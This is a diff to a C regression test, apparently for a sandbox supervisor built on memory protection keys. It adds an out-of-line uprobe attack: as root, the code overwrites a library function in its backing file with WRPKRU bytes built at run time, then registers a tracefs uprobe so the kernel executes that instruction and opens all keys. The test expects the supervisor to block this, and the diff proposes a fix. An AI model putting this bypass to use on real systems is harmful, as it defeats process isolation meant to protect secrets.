@@ -27,9 +27,20 @@
 // without the probe reaches the file only (the copy holds, the vault's
 // read faults).
 //
+// A second way (xol), with the copy left whole: the kernel executes a
+// probed instruction out of line, in the "[uprobes]" page it maps
+// executable in the process when a probe is hit (after every walk of
+// /proc/self/maps), and takes that instruction from the file when the
+// probe is made. Root writes WRPKRU into the file over the function's
+// first instruction (the copy keeps the old bytes), puts a probe there
+// and calls the function with eax = ecx = edx = 0: the INT3 in the copy
+// sends the kernel to step the file's WRPKRU, which resumes at the
+// copy's next instruction, and every key is open.
+//
 // Seen in the guest (root): the page anonymous before the probe, not
 // after it; ATTACK SUCCEEDED; control: library says 7; the write alone:
-// protection-key fault.
+// protection-key fault; xol: the page still anonymous with the probe,
+// ATTACK SUCCEEDED.
 //
 // Suggested fix: refuse, in the supervisor, opens for writing of files in
 // tracefs and debugfs (their uprobe_events, kprobe_events, dynamic_events
@@ -46,6 +57,7 @@
 // RUN: FileCheck --check-prefix=CONTROL %s < %t/control.out
 // RUN: env BULKHEAD_VM_FILES=%t/prog %run %t/launch %t/prog write > %t/write.out 2>&1; FileCheck --check-prefix=WRITE %s < %t/write.out
 // RUN: env BULKHEAD_VM_FILES=%t/prog %run %t/launch %t/prog attack > %t/out 2>&1; FileCheck %s < %t/out
+// RUN: env BULKHEAD_VM_FILES=%t/prog %run %t/launch %t/prog xol > %t/xol.out 2>&1; FileCheck --check-prefix=XOL %s < %t/xol.out
 // CONTROL: uid 0
 // CONTROL: page anonymous before the probe: 1
 // CONTROL: library says 7
@@ -57,6 +69,9 @@
 // CHECK: uid 0
 // CHECK-NOT: ATTACK SUCCEEDED
 // CHECK: bulkhead: {{denied|protection-key fault}}
+// XOL: uid 0
+// XOL-NOT: ATTACK SUCCEEDED
+// XOL: bulkhead: {{denied|protection-key fault}}
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <stdint.h>
@@ -127,39 +142,67 @@ static int put(const char *file, const char *text) {
   return ok;
 }
 
+/* WRPKRU's bytes, made at run time: the program holds no such bytes. */
+static volatile unsigned char op = 0xee;
+
+/* attack: the probe takes the copy back, then the file is written. */
+static void uncopy(const char *path, long long off, void *code) {
+  char probe[4200];
+  snprintf(probe, sizeof probe, "p:rev30/lib %s:0x%llx\n", path, off);
+  int added = put("/sys/kernel/tracing/uprobe_events", probe);
+  int on = put("/sys/kernel/tracing/events/rev30/lib/enable", "1");
+  int off_ = put("/sys/kernel/tracing/events/rev30/lib/enable", "0");
+  int gone = put("/sys/kernel/tracing/uprobe_events", "-:rev30/lib\n");
+  (void)*(volatile unsigned char *)code;
+  printf("probe added %d, enabled %d, disabled %d, removed %d\n", added, on,
+         off_, gone);
+  printf("page anonymous after it: %d\n", anonymous((uintptr_t)code));
+}
+
+/* write (and attack): WRPKRU; RET over the function in the file. */
+static void rewrite(const char *path, long long off) {
+  int fd = open(path, O_RDWR);
+  unsigned char bytes[4] = {0x0f, 0x01, (unsigned char)(op + 1), 0xc3};
+  printf("file opened: %d, written: %ld\n", fd >= 0,
+         fd < 0 ? -1L : (long)pwrite(fd, bytes, sizeof bytes, off));
+}
+
+/* xol: the function begins with lea (%rdi,%rdi,2), %eax (3 bytes).
+ * WRPKRU goes in the file over it, and a probe there: the kernel steps the
+ * file's instruction out of line and resumes at the copy's next one. */
+static void out_of_line(const char *path, long long off, void *code) {
+  unsigned char w[3] = {0x0f, 0x01, (unsigned char)(op + 1)};
+  char probe[4200];
+  int fd = open(path, O_RDWR);
+  long n = fd < 0 ? -1 : (long)pwrite(fd, w, sizeof w, off);
+  snprintf(probe, sizeof probe, "p:rev30/xol %s:0x%llx\n", path, off);
+  int added = put("/sys/kernel/tracing/uprobe_events", probe);
+  int on = put("/sys/kernel/tracing/events/rev30/xol/enable", "1");
+  printf("file written: %ld, probe added %d, enabled %d\n", n, added, on);
+  printf("page anonymous with the probe: %d\n", anonymous((uintptr_t)code));
+}
+
 int main(int argc, char **argv) {
-  int attack = argc > 1 && strcmp(argv[1], "control");
-  int probed = argc > 1 && !strcmp(argv[1], "attack");
+  const char *mode = argc > 1 ? argv[1] : "control";
   printf("uid %d\nvault says %d\n", (int)getuid(), vault_len());
   void *code = (void *)rev29_lib_code;
-  char path[4096], probe[4200];
+  char path[4096];
   long long off;
   if (backing((uintptr_t)code, path, sizeof path, &off))
     return 1;
   (void)*(volatile unsigned char *)code; /* present */
   printf("page anonymous before the probe: %d\n", anonymous((uintptr_t)code));
-  if (!attack) {
+  if (!strcmp(mode, "control")) {
     printf("library says %d\n", rev29_lib_code(2));
     return 0;
   }
-  snprintf(probe, sizeof probe, "p:rev30/lib %s:0x%llx\n", path, off);
-  int added = 0, on = 0, off_ = 0, gone = 0;
-  if (probed) {
-    added = put("/sys/kernel/tracing/uprobe_events", probe);
-    on = put("/sys/kernel/tracing/events/rev30/lib/enable", "1");
-    off_ = put("/sys/kernel/tracing/events/rev30/lib/enable", "0");
-    gone = put("/sys/kernel/tracing/uprobe_events", "-:rev30/lib\n");
+  if (!strcmp(mode, "xol"))
+    out_of_line(path, off, code);
+  else {
+    if (!strcmp(mode, "attack"))
+      uncopy(path, off, code);
+    rewrite(path, off);
   }
-  (void)*(volatile unsigned char *)code;
-  printf("probe added %d, enabled %d, disabled %d, removed %d\n", added, on,
-         off_, gone);
-  printf("page anonymous after it: %d\n", anonymous((uintptr_t)code));
-  int fd = open(path, O_RDWR);
-  /* WRPKRU; RET, made at run time: the program holds no such bytes. */
-  static volatile unsigned char op = 0xee;
-  unsigned char bytes[4] = {0x0f, 0x01, (unsigned char)(op + 1), 0xc3};
-  printf("file opened: %d, written: %ld\n", fd >= 0,
-         fd < 0 ? -1L : (long)pwrite(fd, bytes, sizeof bytes, off));
   fflush(stdout);
   static char copy[32];
   __asm__ volatile("xorl %%eax, %%eax\n\txorl %%ecx, %%ecx\n\t"
